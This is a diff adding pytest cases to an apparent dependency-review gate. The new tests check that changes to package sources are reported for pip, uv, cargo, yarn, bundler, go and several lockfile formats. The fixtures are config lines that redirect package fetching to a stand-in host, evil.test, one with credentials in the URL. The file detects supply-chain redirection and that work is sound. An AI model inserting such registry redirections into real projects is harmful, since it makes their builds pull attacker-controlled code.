@@ -6,7 +6,8 @@ import difflib
 
 import pytest
 
-from bot.gate.dependencies import new_dependencies
+from bot.gate.dependencies import new_dependencies, new_sources
+from bot.gate.rules import sensitive
 from bot.gate.weakened import Line
 
 PYPROJECT = """\
@@ -126,3 +127,48 @@ def _changed(before: str, after: str) -> tuple[list[Line], list[Line]]:
     lines = list(difflib.ndiff(before.splitlines(), after.splitlines()))
     removed = [Line(1, line[2:].encode()) for line in lines if line.startswith("- ")]
     return removed, [Line(1, line[2:].encode()) for line in lines if line.startswith("+ ")]
+
+
+SOURCES = {
+    "pip's index": ("requirements/base.txt", "", "--index-url https://me:pw@evil.test/simple\n",
+                    "fetches packages from https://evil.test/simple"),
+    "pip's second index": ("dev.in", "", "--extra-index-url=https://evil.test/s\n", "fetches packages from https://evil.test/s"),
+    "pip's links": ("requirements.in", "", "-f ./wheels\n", "fetches packages from ./wheels"),
+    "uv": ("uv.toml", "", 'index-url = "https://evil.test/simple"\n', "fetches packages from https://evil.test/simple"),
+    "an index of uv": ("pyproject.toml", "", '[[tool.uv.index]]\nurl = "https://evil.test/s"\n',
+                       "fetches packages from https://evil.test/s"),
+    "a page of the project": ("pyproject.toml", "", '[project.urls]\nHomepage = "https://x.test"\n', ""),
+    "cargo": (".cargo/config.toml", "", '[source.x]\nregistry = "https://evil.test/i"\n', "fetches packages from https://evil.test/i"),
+    "yarn": (".yarnrc.yml", "", 'npmRegistryServer: "https://evil.test"\n', "fetches packages from https://evil.test"),
+    "bundler": ("Gemfile", "", "source 'https://evil.test'\n", "fetches packages from https://evil.test"),
+    "go": ("go.mod", "", "replace a.test/b => evil.test/b v1.0.0\n", "fetches packages from evil.test/b"),
+    "a lock of npm": ("package-lock.json", "", '   "resolved": "https://evil.test/x.tgz",\n "url": "https://fund.test"\n',
+                      "fetches packages from evil.test"),
+    "a lock of npm as usual": ("package-lock.json", "", '   "resolved": "https://registry.npmjs.org/x.tgz",\n', ""),
+    "a lock of yarn": ("yarn.lock", "", '  resolved "https://evil.test/x.tgz#1"\n', "fetches packages from evil.test"),
+    "a lock of pnpm": ("pnpm-lock.yaml", "", "    resolution: {tarball: https://evil.test/x.tgz}\n",
+                       "fetches packages from evil.test"),
+    "a lock of uv": ("uv.lock", "", 'source = { registry = "https://evil.test/simple" }\n',
+                     "fetches packages from evil.test"),
+    "a lock of cargo": ("Cargo.lock", "", 'source = "git+https://evil.test/x"\n', "fetches packages from evil.test"),
+    "the same as before": ("uv.toml", 'index-url = "https://a.test/s"\n', 'index-url = "https://a.test/s" # why\n', ""),
+    "no package manager's": ("docs/index.toml", "", 'index-url = "https://a.test/s"\n', ""),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", SOURCES)
+def test_a72_where_packages_come_from_is_named(case: str) -> None:
+    path, old, new, note = SOURCES[case]
+    assert new_sources(path, lines(old), lines(new)) == note
+
+
+@pytest.mark.parametrize(
+    "path", ["requirements/base.txt", "requirements/sub/x.in", "reqs/dev.in", "Constraints.txt"]
+)
+def test_a72_every_list_of_requirements_is_a_manifest(path: str) -> None:
+    assert sensitive(path) == "dependency manifest"
+    assert new_dependencies(path, [], lines("evil==1\n"), b"evil==1\n") == "adds the dependency evil"
+
+
+def lines(text: str) -> list[Line]:
+    return [Line(number, line.encode()) for number, line in enumerate(text.splitlines(), 1)]
